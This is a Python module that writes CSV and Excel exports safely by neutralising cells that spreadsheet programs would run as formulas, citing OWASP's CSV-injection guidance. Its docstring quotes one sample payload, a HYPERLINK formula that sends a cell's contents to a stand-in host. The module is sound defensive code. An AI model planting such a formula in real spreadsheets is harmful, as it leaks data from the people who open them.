"""Spreadsheet files that are safe to open: every CSV and Excel file ccimatch writes goes through here.

A cell whose text starts with ``=``, ``+``, ``-``, ``@``, tab or carriage return is read as a formula by
Excel, LibreOffice and Google Sheets: a profile named ``=HYPERLINK("http://evil.example/?x="&A1,"x")`` would
run in the organiser's spreadsheet. Following OWASP's CSV-injection guidance, such text gets a leading
single quote (shown, so the value stays readable and visibly neutralised), CSV cells are all quoted, and
Excel cells are written as strings, never formulas. Numbers stay numbers. Characters that no text may
hold (controls, stored by older versions) become U+FFFD: openpyxl refuses them and spreadsheet programs
misbehave on them."""

from __future__ import annotations

import csv
from collections.abc import Mapping, Sequence
from pathlib import Path
from typing import Any

from matcher.text import printable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """A cell value that no spreadsheet program evaluates: text neutralised, numbers and None as they are."""
    if value is None or isinstance(value, bool | int | float):
        return value
    text = printable(str(value).replace("\r\n", "\n"))
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def write_csv(path: Path, columns: Sequence[str], rows: Sequence[Mapping[str, Any]]) -> None:
    """UTF-8 with a BOM (spreadsheet programs then show Arabic and accented names right), every cell quoted."""
    with path.open("w", encoding="utf-8-sig", newline="") as f:
        writer = csv.writer(f, quoting=csv.QUOTE_ALL)
        writer.writerow([safe_cell(c) for c in columns])
        for row in rows:
            writer.writerow(["" if (v := safe_cell(row.get(c))) is None else v for c in columns])


def write_xlsx(path: Path, sheets: Mapping[str, tuple[Sequence[str], Sequence[Mapping[str, Any]]]]) -> None:
    """One worksheet per entry (name -> columns, rows); text cells typed as strings, never formulas."""
    from openpyxl import Workbook

    book = Workbook()
    book.remove(book.worksheets[0])
    for name, (columns, rows) in sheets.items():
        sheet = book.create_sheet(title=name[:31])
        table: list[list[Any]] = [list(columns), *([row.get(c) for c in columns] for row in rows)]
        for r, values in enumerate(table, 1):
            for c, value in enumerate(values, 1):
                cell = sheet.cell(row=r, column=c, value=None)
                cell.value = safe_cell(value)
                if isinstance(cell.value, str):
                    cell.data_type = "s"  # openpyxl would otherwise store text starting with '=' as a formula
    book.save(path)
